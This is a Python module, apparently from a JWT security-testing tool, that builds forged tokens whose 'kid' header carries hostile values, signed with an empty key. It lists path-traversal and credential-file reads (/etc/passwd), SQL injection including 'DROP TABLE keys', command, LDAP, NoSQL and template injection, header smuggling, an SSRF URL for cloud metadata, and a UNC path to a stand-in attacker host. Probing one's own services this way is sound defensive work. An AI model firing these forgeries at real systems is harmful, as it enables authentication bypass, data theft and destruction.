"""Family C: key ids that do something to the code that looks the key up. The key is empty, as in /dev/null."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Final

from mfa_middleware.cli.probe.forgeries.made import Forged, Tokens
from mfa_middleware.cli.probe.target import Target
from mfa_middleware.cli.probe.tokens import hmac_signed

__all__ = ["TOKENS"]

_KIDS: Final[Mapping[str, tuple[object, ...]]] = {
    "kid_traversal": (
        "../../../../../../dev/null", "..%2f..%2f..%2fdev%2fnull", "..\\..\\..\\windows\\win.ini",
        "keys/../../../etc/passwd", "%2e%2e/%2e%2e/dev/null", "%252e%252e%252fdev%252fnull",
    ),
    "kid_file": (
        "/dev/null", "/etc/passwd", "/proc/sys/kernel/randomize_va_space", "file:///dev/null", "C:\\windows\\win.ini",
        "\\\\attacker.example\\share\\key",
    ),
    "kid_sql": (
        "x' UNION SELECT 'AA", "' or 1=1--", "1; DROP TABLE keys", "x\" OR \"1\"=\"1", "1) UNION ALL SELECT NULL--",
        "1' AND sleep(5)#",
    ),
    "kid_nosql": ({"$ne": ""}, {"$gt": ""}, "kid[$ne]=1", "'||'1'=='1", "$where: sleep(100)"),
    "kid_ldap": ("*)(uid=*", "admin)(|(password=*))", "*)(objectClass=*"),
    "kid_command": ("key|sleep 10", "key`id`", "$(id)", "key; cat /etc/passwd", "x && id"),
    "kid_template": ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}"),
    "kid_type": (0, ["1"], {"kid": "1"}, True),
    "kid_control": ("key\r\nX-Evil: 1", "key\x1b[31m", "key\0.pem"),
    "kid_oversize": ("k" * 2_000,),
}  # fmt: skip
_SIGNED: Final[Mapping[str, tuple[str, ...]]] = {
    "kid_url": ("keys?id=1", "key%20one", "http://127.0.0.1/key", "http://169.254.169.254/key"),
    "kid_unknown": ("key-of-nobody", "key-of-nobody-2"),
}


def _attacking(kids: tuple[object, ...]) -> Tokens:
    def tokens(target: Target) -> Iterator[Forged]:
        for kid in kids:
            header = {"alg": "HS256", "typ": "JWT", "kid": kid}
            yield Forged(hmac_signed(header, target.forged_claims, b""), ascii(kid)[:60])

    return tokens


def _ordinary(kids: tuple[str, ...]) -> Tokens:
    """What an honest issuer may write too, so that its own key signs it where the tester has that."""
    return lambda target: (Forged(target.signed({"kid": kid}), kid) for kid in kids)


def _other_key(target: Target) -> Iterator[Forged]:
    neighbour = target.neighbour
    for key in target.keys:
        if neighbour is not None and key.algorithm == neighbour.algorithm and key.kid not in (None, neighbour.kid):
            header = {"alg": neighbour.algorithm, "typ": "JWT", "kid": key.kid}
            yield Forged(neighbour.token(header, target.forged_claims), f"signed by the key of {neighbour.kid}")
            return


TOKENS: Final[Mapping[str, Tokens]] = {
    **{trick: _attacking(kids) for trick, kids in _KIDS.items()},
    **{trick: _ordinary(kids) for trick, kids in _SIGNED.items()},
    "kid_cross_tenant": _other_key,
}
